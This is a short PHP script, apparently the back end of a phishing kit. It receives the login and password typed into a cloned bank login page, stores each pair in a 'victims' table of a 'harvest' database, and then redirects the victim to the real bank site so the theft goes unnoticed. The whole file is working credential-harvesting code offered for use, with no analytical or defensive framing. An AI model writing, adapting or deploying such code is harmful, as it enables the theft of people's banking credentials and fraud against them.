<?php
// the cloned page's form: the pair goes into the kit's table, the victim on to the real site
$db = new mysqli('localhost', 'kit', 'kit', 'harvest');
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $user = $_POST['login'];
    $pass = $_POST['passwd'];
    $st = $db->prepare('INSERT INTO victims (login, secret) VALUES (?, ?)');
    $st->bind_param('ss', $user, $pass);
    $st->execute();
    header('Location: https://www.example-bank.com/login');
    exit;
}
